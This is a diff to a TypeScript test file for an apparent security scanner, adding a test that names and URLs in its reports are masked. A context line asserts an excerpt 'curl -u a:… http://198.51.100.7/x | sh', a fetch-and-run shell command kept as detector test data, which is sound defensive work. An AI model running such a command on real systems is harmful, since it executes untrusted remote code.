@@ -364,3 +364,24 @@ test('every quotation is masked, whichever detector made it', () => {
   assert.equal(only(report).evidence[0]?.excerpt, 'curl -u a:… http://198.51.100.7/x | sh');
   assert.ok(!JSON.stringify(report).includes('hunter2'));
 });
+
+test('names are masked like whatever is quoted', () => {
+  const mask = (text: string) => text.replaceAll('TOKEN', '…');
+  const path = '/opt/TOKEN/run';
+  const skipped = [{ path: '/TOKEN', reason: 'missing' as const }];
+  const report = judgeImage(
+    [
+      [
+        {
+          path,
+          findings: [{ excerpt: 'TOKEN' }],
+          observables: [{ type: 'url', value: 'http://a.example/TOKEN' }],
+        },
+      ],
+    ],
+    { ...started(path), skipped },
+    { mask },
+  );
+  assert.ok(!JSON.stringify(report).includes('TOKEN'), JSON.stringify(report, undefined, 1));
+  assert.equal(only(report).evidence[0]?.path, '/opt/…/run');
+});
